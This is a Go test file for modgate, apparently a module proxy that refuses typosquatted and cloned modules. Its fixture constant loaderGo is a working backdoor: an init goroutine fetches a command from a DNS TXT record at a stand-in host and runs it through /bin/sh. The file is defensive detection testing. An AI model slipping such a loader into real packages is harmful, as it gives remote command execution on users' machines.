package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/modgate/modgate/internal/testkit"
)

// humanizeFiles reads the files of the real github.com/dustin/go-humanize
// v1.1.0 zip (testdata/origins/README.md), without the module@version/
// prefix.
func humanizeFiles(t *testing.T) map[string]string {
	t.Helper()
	return testkit.ZipContents(t, filepath.Join("testdata", "origins", "github.com_dustin_go-humanize@v1.1.0.zip"))
}

// loaderGo is the shape of the 2025 Go typosquats' added file: an init that
// starts a goroutine asking DNS for a command and running it.
const loaderGo = `package humanize

import (
	"net"
	"os/exec"
)

func init() { go poll() }

func poll() {
	txt, err := net.LookupTXT("update.humanize-cdn.example")
	if err != nil || len(txt) == 0 {
		return
	}
	exec.Command("/bin/sh", "-c", txt[0]).Start()
}
`

// TestEndToEndResemblance drives the real go command through modgate for the
// resemblance checks: a look-alike of a path fetched before (refused under
// lookalike: block, in the go command's 8 lines, then cleared for good by an
// exemption), a clone of that real module with one added loader file
// (refused by the default clone rule), and a fork that changes only its
// module line (served, with a clone finding).
func TestEndToEndResemblance(t *testing.T) {
	orig := humanizeFiles(t)
	renamed := func(path string, extra map[string]string) map[string]string {
		files := map[string]string{}
		for k, v := range orig {
			files[k] = v
		}
		files["go.mod"] = strings.Replace(orig["go.mod"], "module github.com/dustin/go-humanize", "module "+path, 1)
		for k, v := range extra {
			files[k] = v
		}
		return files
	}
	up := testkit.NewUpstream(t,
		testkit.Build(t, testkit.Module{Path: "github.com/dustin/go-humanize", Version: "v1.1.0", Files: orig}),
		testkit.Build(t, testkit.Module{Path: "github.com/dustim/go-humanize", Version: "v1.0.0",
			Files: map[string]string{"humanize.go": "package humanize\n\nfunc Bytes(n uint64) string { return \"\" }\n", "LICENSE": bsd3License}}),
		testkit.Build(t, testkit.Module{Path: "github.com/humanize-tools/go-humanize", Version: "v1.1.1",
			Files: renamed("github.com/humanize-tools/go-humanize", map[string]string{"loader.go": loaderGo})}),
		testkit.Build(t, testkit.Module{Path: "github.com/acme-forks/go-humanize", Version: "v1.1.0",
			Files: renamed("github.com/acme-forks/go-humanize", nil)}),
	)
	work := t.TempDir()
	data := t.TempDir()
	pol := filepath.Join(work, "policy.yaml")
	if err := os.WriteFile(pol, []byte("lookalike: block\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	mg := startModgate(t, "--data", data, "--upstream", up.URL, "--sumdb", "off", "--policy", pol)
	env := testkit.GoEnv(t, filepath.Join(work, "home"), mg.URL, "GOSUMDB=off")
	app := filepath.Join(work, "app")
	writeApp(t, app, "module e2e.test/app\n\ngo 1.21\n")

	refused := func(m string, want ...string) {
		t.Helper()
		out := testkit.RunGo(t, app, env, true, "mod", "download", m)
		detail, lines := serverResponse(t, out)
		t.Logf("go mod download %s shows %d bytes, %d lines:\n%s", m, len(detail), lines, detail)
		if !strings.Contains(out, "403 Forbidden") {
			t.Errorf("go mod download %s: not a 403:\n%s", m, out)
		}
		for _, w := range want {
			if !strings.Contains(detail, w) {
				t.Errorf("go mod download %s: the go command does not show %q:\n%s", m, w, out)
			}
		}
		if strings.Contains(out, "[Truncated") || lines > 8 || len(detail) > 648 {
			t.Errorf("the refusal does not fit (%d bytes, %d lines):\n%s", len(detail), lines, out)
		}
	}

	// The real module, fetched first: it is what later paths resemble.
	testkit.RunGo(t, app, env, false, "mod", "download", "github.com/dustin/go-humanize@v1.1.0")

	// A look-alike of the path fetched before: one edit in the owner.
	refused("github.com/dustim/go-humanize@v1.0.0",
		"github.com/dustim/go-humanize@v1.0.0: refused by modgate policy (lookalike)",
		"- lookalike: 1 edit from github.com/dustin/go-humanize (dustim for dustin), a widely used module fetched here (1 version)",
		"modgate exempt add --module github.com/dustim/go-humanize --rule lookalike --reason ... --by ... --expires never")
	// Cleared for good by an exemption without versions or expiry.
	if out, code := runModgate(t, "exempt", "add", "--data", data, "--module", "github.com/dustim/go-humanize", "--rule", "lookalike",
		"--reason", "reviewed: a real module of our team", "--by", "alice", "--expires", "never"); code != 0 {
		t.Fatalf("exempt add --expires never: exit %d\n%s", code, out)
	}
	deadline := time.Now().Add(20 * time.Second) // exemptions apply within 5s
	for i := 0; ; i++ {
		env2 := testkit.GoEnv(t, filepath.Join(work, fmt.Sprintf("home%d", i+2)), mg.URL, "GOSUMDB=off")
		out, err := runGoErr(app, env2, "mod", "download", "github.com/dustim/go-humanize@v1.0.0")
		if err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the look-alike is still refused after its exemption:\n%s", out)
		}
		time.Sleep(500 * time.Millisecond)
	}

	// A clone of the real module with one added loader file: the capabilities
	// its added file brings block by default, named with file and line.
	refused("github.com/humanize-tools/go-humanize@v1.1.1",
		"github.com/humanize-tools/go-humanize@v1.1.1: refused by modgate policy (clone.with_new_capabilities)",
		"- clone.with_new_capabilities: adds EXEC in loader.go:15 (os/exec.Command; init → poll)")
	if _, body := getURL(t, mg.URL+"/api/decision/github.com/humanize-tools/go-humanize/@v/v1.1.1"); !strings.Contains(body,
		"adds EXEC in loader.go:15 (os/exec.Command; init → poll), NETWORK in loader.go:11 (net.LookupTXT; init → poll); "+
			"copies github.com/dustin/go-humanize@v1.1.0 (99% of its files identical); added: loader.go") {
		t.Errorf("decision on the clone does not name the original and the added file:\n%s", body)
	}

	// A fork that changes only its module line: served, with a clone
	// finding that says so.
	testkit.RunGo(t, app, env, false, "mod", "download", "github.com/acme-forks/go-humanize@v1.1.0")
	_, body := getURL(t, mg.URL+"/api/decision/github.com/acme-forks/go-humanize/@v/v1.1.0")
	var dec struct {
		Blocked  bool
		Findings []struct{ Rule, Action, Reason string }
	}
	if err := json.Unmarshal([]byte(body), &dec); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, f := range dec.Findings {
		found = found || f.Rule == "clone" && f.Action == "warn" &&
			f.Reason == "a fork of github.com/dustin/go-humanize@v1.1.0: identical but for its go.mod module line"
	}
	if dec.Blocked || !found {
		t.Errorf("decision on the fork: blocked %v, want served with a clone warning:\n%s", dec.Blocked, body)
	}
	// The real module itself has no origin finding.
	if _, body := getURL(t, mg.URL+"/api/decision/github.com/dustin/go-humanize/@v/v1.1.0"); strings.Contains(body, "lookalike") || strings.Contains(body, "clone") {
		t.Errorf("decision on the original names an origin finding:\n%s", body)
	}
	mg.stop(t)
}

// TestCheckLookalike: `modgate check` decides a look-alike path with the
// same record the proxy makes, also for a path never requested (compared
// with the shipped list, not recorded).
func TestCheckLookalike(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module example.com/app\n\ngo 1.21\n\nrequire (\n"+
		"\tgithub.com/shopsprint/decimal v1.3.3\n\tgithub.com/sirupsen/logrus v1.9.3\n)\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	pol := filepath.Join(t.TempDir(), "policy.yaml")
	if err := os.WriteFile(pol, []byte("lookalike: block\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	modgate := modgateIn(t, t.TempDir())
	stdout, stderr, err := modgate("check", dir, "--policy", pol, "--vulndb", "off")
	if exitCode(err) != 1 || !strings.Contains(stdout,
		"BLOCK  github.com/shopsprint/decimal@v1.3.3: lookalike: 1 edit from github.com/shopspring/decimal (shopsprint for shopspring), a widely used public module") {
		t.Errorf("check: %v (exit %d), want the look-alike blocked\n%s%s", err, exitCode(err), stdout, stderr)
	}
	if strings.Contains(stdout, "sirupsen/logrus@v1.9.3: lookalike") {
		t.Errorf("the real module is reported as a look-alike:\n%s", stdout)
	}
}
